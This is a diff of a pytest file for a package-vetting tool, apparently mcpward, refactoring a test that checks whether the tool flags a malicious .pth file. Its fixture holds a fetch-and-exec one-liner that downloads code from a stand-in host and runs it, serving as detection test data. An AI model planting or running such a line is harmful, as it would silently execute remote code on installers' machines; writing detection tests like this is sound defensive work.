@@ -17,7 +17,7 @@ from pathlib import Path
 import pytest
 
 from mcpward.vet import VetOptions, run_vet
-from vet_fixtures import relay_sdist
+from vet_fixtures import relay_sdist, vetted_both_ways
 
 FETCH_AND_RUN = (
     'import urllib.request; exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
@@ -34,8 +34,7 @@ def test_a_pth_file_in_a_skipped_folder_is_analysed(tmp_path: Path, pth: str) ->
     setup = {"setup.py": SETUP_PY.format(pth=pth)}
     old = _sdist(tmp_path, "1.0.0", {**setup, pth: "relay_mcp_vendor\n"})
     new = _sdist(tmp_path, "1.0.1", {**setup, pth: FETCH_AND_RUN})
-    for baseline in (str(old), None):
-        report = run_vet(VetOptions(target=str(new), baseline=baseline, cache_dir=tmp_path / "c"))
+    for report in vetted_both_ways(new, old, tmp_path / "c"):
         findings = {(f.rule, f.severity.value) for f in report.findings}
         assert ("download-and-run", "critical") in findings, findings
 
